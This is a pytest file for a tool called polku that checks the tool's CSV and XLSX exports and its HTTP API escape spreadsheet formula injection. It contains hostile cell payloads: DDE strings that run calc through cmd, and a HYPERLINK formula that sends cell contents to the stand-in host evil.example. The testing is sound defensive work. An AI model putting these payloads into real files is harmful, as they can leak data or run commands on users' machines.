"""What an attacker could do with the files polku writes and the server's answers: each
test drives the real CLI or the real HTTP app with hostile data and checks it stays data.

- spreadsheet formula injection (OWASP "CSV Injection"): every CSV polku writes for people
  to open in Excel or LibreOffice puts a ``'`` before a cell that starts like a formula
  (``=``, ``+``, ``-``, ``@``, tab, carriage return), numbers left as they are;
"""

from __future__ import annotations

import csv
import io
import re
import shutil
from pathlib import Path
from urllib.parse import unquote

import pytest
from fastapi.testclient import TestClient

from helpers import run
from polku.app import create_app
from polku.io.workbook import FORMULA_STARTS

#: what a name may hold that a spreadsheet would run: a link that sends the sheet's cells
#: elsewhere, a DDE command, a formula behind a leading minus
HOSTILE_ORG = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_NOTE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
HOSTILE_SEGMENT = "-2+3+cmd|' /C calc'!A0"


def _set(path: Path, row_key: str, column: str, value: str) -> None:
    """One cell of a workbook sheet (the row whose first column is ``row_key``)."""
    rows = list(csv.reader(path.open(encoding="utf-8", newline="")))
    col = rows[0].index(column)
    for r in rows[1:]:
        if r[0] == row_key:
            r[col] = value
    with path.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f, lineterminator="\n").writerows(rows)


@pytest.fixture
def hostile(mini: Path) -> Path:
    """The mini workbook with formulas in an organisation's and a segment's names and in a
    follow-up's note (cells a designer may type anything into)."""
    _set(mini / "actors.csv", "keusote", "name", HOSTILE_ORG)
    _set(mini / "segments.csv", "nuoret", "name", HOSTILE_SEGMENT)
    (mini / "followups.csv").write_text(
        "finding,status,owner,due,note\n"
        f"multiple-leads:kuntouttava,in-progress,keusote,,\"{HOSTILE_NOTE.replace(chr(34), 2 * chr(34))}\"\n",
        encoding="utf-8")
    r = run("validate", mini)
    assert r.exit_code == 0, r.output
    return mini


def formula_cells(text: str) -> list[str]:
    """The cells of a CSV text that a spreadsheet would run as a formula."""
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row
            if cell.startswith(FORMULA_STARTS) and not re.fullmatch(r"[+-]?\d+([.,]\d+)?", cell)]


def test_the_action_list_csv_runs_no_formula(hostile: Path, tmp_path: Path) -> None:
    out = tmp_path / "actions.csv"
    r = run("actions", hostile, "--format", "csv", "-o", out)
    assert r.exit_code == 0, r.output
    text = out.read_text(encoding="utf-8-sig")
    assert formula_cells(text) == []
    # the text is all there, behind the apostrophe a spreadsheet shows as nothing
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert "'" + HOSTILE_ORG in cells and "'" + HOSTILE_NOTE in cells


def test_the_action_list_from_the_api_and_the_report_runs_no_formula(hostile: Path,
                                                                     tmp_path: Path) -> None:
    served = tmp_path / "graphs"
    served.mkdir()
    shutil.copytree(hostile, served / "mini")
    client = TestClient(create_app([served]))
    r = client.get("/api/graphs/mini/actions", params={"format": "csv"})
    assert r.status_code == 200
    assert HOSTILE_ORG in r.text and formula_cells(r.text) == []
    page = client.get("/graphs/mini/report").text
    href = re.search(r'download="[^"]*actions.csv" href="data:text/csv;charset=utf-8,([^"]*)"',
                     page)
    assert href is not None
    embedded = unquote(href.group(1).replace("&amp;", "&")).lstrip("\ufeff")
    assert HOSTILE_ORG in embedded and formula_cells(embedded) == []


def test_the_regions_csv_runs_no_formula(mini: Path, tmp_path: Path) -> None:
    other = tmp_path / "other"
    shutil.copytree(mini, other)
    (mini / "graph.csv").write_text(f"id,title\nmini,\"{HOSTILE_NOTE.replace(chr(34), 2 * chr(34))}\"\n",
                                    encoding="utf-8")
    r = run("compare", mini, other, "--format", "csv")
    assert r.exit_code == 0, r.output
    cells = [c for row in csv.reader(io.StringIO(r.stdout)) for c in row]
    assert "'" + HOSTILE_NOTE in cells and formula_cells(r.stdout) == []


def test_spreadsheets_polku_writes_hold_no_formula(hostile: Path, tmp_path: Path) -> None:
    """An .xlsx cell whose text starts with ``=`` is a formula to openpyxl unless polku says
    it is text: the RACI matrix, the action list and the exported workbook hold none."""
    import zipfile

    _set(hostile / "services.csv", "kuntouttava", "name", HOSTILE_NOTE)
    (hostile / "graph.csv").write_text("id,title\nmini,=1+1\n", encoding="utf-8")
    written = {"raci": tmp_path / "raci.xlsx", "actions": tmp_path / "actions.xlsx",
               "workbook": tmp_path / "mini.xlsx"}
    assert run("raci", hostile, "-o", written["raci"]).exit_code == 0
    assert run("actions", hostile, "--format", "xlsx", "-o", written["actions"]).exit_code == 0
    assert run("export", hostile, "--to", "xlsx", "-o", written["workbook"]).exit_code == 0
    for what, path in written.items():
        with zipfile.ZipFile(path) as z:
            sheets = [z.read(n).decode() for n in z.namelist()
                      if n.startswith("xl/worksheets/sheet")]
            text = " ".join(z.read(n).decode() for n in z.namelist() if n.endswith(".xml"))
        assert not any("<f>" in s for s in sheets), what
        assert "HYPERLINK" in text, what  # kept, as text
